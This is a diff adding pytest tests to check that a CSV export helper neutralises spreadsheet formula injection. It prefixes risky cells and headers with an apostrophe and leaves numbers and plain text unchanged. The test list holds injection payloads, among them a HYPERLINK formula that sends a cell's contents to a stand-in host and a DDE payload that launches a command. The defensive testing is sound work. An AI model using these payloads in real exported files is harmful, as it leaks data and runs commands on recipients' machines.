@@ -158,6 +158,61 @@ def test_csv_cell(value: Any, cell: str) -> None:
     assert csv_cell(value) == cell
 
 
+# The audit's payloads (issue 13, item 1), and each start OWASP lists.
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&B3,"ok")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+33 1 23 45 67 89",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cell_neutralises_text_a_spreadsheet_would_run(text: str) -> None:
+    assert csv_cell(text) == "'" + text
+    assert csv_cell([text, "=second"]) == "'" + text + "; =second"  # one cell, one start
+    assert csv_cell(text, neutralise_formulas=False) == text
+
+
+@pytest.mark.parametrize("value", [-42, -0.5, 1e-05])
+def test_csv_cell_leaves_numbers_alone(value: float) -> None:
+    assert not csv_cell(value).startswith("'")
+    assert float(csv_cell(value)) == value
+
+
+@pytest.mark.parametrize("text", ["Sales = Support", "a@b.example", "O'Connor", "' quoted", ""])
+def test_csv_cell_leaves_harmless_text_alone(text: str) -> None:
+    assert csv_cell(text) == text
+
+
+async def test_csv_with_formula_names_reads_back_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "report.csv"
+    rows = [{"queue_name": text, "answered": -1, "codes": [text]} for text in FORMULAS]
+    await write_csv(path, ["queue_name", "answered", "codes"], rows, fmt="csv")
+
+    read = list(csv.reader(io.StringIO(contents(path).decode("utf-8"), newline="")))
+    assert read[0] == ["queue_name", "answered", "codes"]
+    for cells, text in zip(read[1:], FORMULAS, strict=True):
+        assert cells == ["'" + text, "-1", "'" + text]
+        assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+async def test_csv_header_is_neutralised_too(tmp_path: Path) -> None:
+    path = tmp_path / "report.csv"
+    await write_csv(path, ["=cmd", "answered"], [{"=cmd": 1, "answered": 2}], fmt="csv")
+    assert contents(path) == b"'=cmd,answered\r\n1,2\r\n"
+
+
+async def test_csv_keeps_formulas_when_told_to(tmp_path: Path) -> None:
+    path = tmp_path / "report.csv"
+    rows = [{"queue_name": FORMULAS[0]}]
+    await write_csv(path, ["queue_name"], rows, fmt="csv", neutralise_formulas=False)
+    read = list(csv.reader(io.StringIO(contents(path).decode("utf-8"), newline="")))
+    assert read == [["queue_name"], [FORMULAS[0]]]
+
+
 def test_csv_cell_refuses_what_it_cannot_write() -> None:
     with pytest.raises(TypeError, match="dict"):
         csv_cell({"a": 1})
